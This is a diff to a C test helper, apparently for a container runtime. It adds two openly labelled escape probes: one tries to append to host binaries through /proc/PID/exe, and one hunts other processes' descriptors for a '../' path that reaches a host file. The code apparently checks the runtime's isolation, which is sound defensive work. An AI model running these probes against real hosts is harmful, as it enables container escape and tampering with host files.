@@ -1,5 +1,7 @@
 // What busybox cannot show or do. One command a function; each prints plain text.
 
+#define _GNU_SOURCE
+
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/seccomp.h>
@@ -220,6 +222,65 @@ static int allocate(int count, char **words) {
   return 0;
 }
 
+// attack-binary: waits for processes that run another program than this container's, holds that
+// program open, and tries to write to it.
+static int attack_binary(int count, char **words) {
+  printf("ready\n");
+  fflush(stdout);
+  for (int pid = 2;; pid = pid > 400 ? 2 : pid + 1) {
+    char path[64], target[4096] = {0};
+    if (pid == getpid()) continue;
+    snprintf(path, sizeof path, "/proc/%d/exe", pid);
+    if (readlink(path, target, sizeof target - 1) < 0) continue;
+    if (!strncmp(target, "/bin/", 5)) continue;
+    int held = open(path, O_RDONLY | O_CLOEXEC);
+    if (held < 0) continue;
+    printf("held %s\n", target);
+    fflush(stdout);
+    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
+    // The file can be written once nobody runs it any more.
+    for (int i = 0; i < 200; i++) {
+      int writable = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+      if (writable >= 0 && write(writable, "#", 1) == 1) {
+        printf("overwritten\n");
+        fflush(stdout);
+      }
+      if (writable >= 0) close(writable);
+      usleep(1000);
+    }
+    close(held);
+  }
+}
+
+// attack-descriptors SECRET: looks through the descriptors of all other processes for a folder from
+// which SECRET, a path of the host, can be reached by going up.
+static int attack_descriptors(int count, char **words) {
+  printf("ready\n");
+  fflush(stdout);
+  char path[64], escape[4096];
+  snprintf(escape, sizeof escape, "../../../../../../../../../..%s", words[1]);
+  for (int pid = 1;; pid = pid > 400 ? 1 : pid + 1) {
+    if (pid == getpid()) continue;
+    snprintf(path, sizeof path, "/proc/%d", pid);
+    if (access(path, F_OK)) continue;
+    for (int number = -2; number < 64; number++) {
+      if (number < 0)
+        snprintf(path, sizeof path, "/proc/%d/%s", pid, number == -2 ? "cwd" : "root");
+      else
+        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, number);
+      int held = open(path, O_PATH | O_CLOEXEC);
+      if (held < 0) continue;
+      int secret = openat(held, escape, O_RDONLY | O_CLOEXEC);
+      if (secret >= 0) {
+        printf("reached by %s\n", path);
+        fflush(stdout);
+        close(secret);
+      }
+      close(held);
+    }
+  }
+}
+
 static const struct {
   const char *name;
   int needed;
@@ -229,6 +290,8 @@ static const struct {
     {"exchange", 2, exchange},       {"call", 1, make_call},             {"call32", 1, make_call32},
     {"descriptors", 0, descriptors}, {"scheduling", 0, scheduling},      {"dumpable", 0, dumpable},
     {"ignore", 0, ignore},           {"allocate", 1, allocate},
+    {"attack-binary", 0, attack_binary},
+    {"attack-descriptors", 1, attack_descriptors},
 };
 
 int main(int count, char **words) {
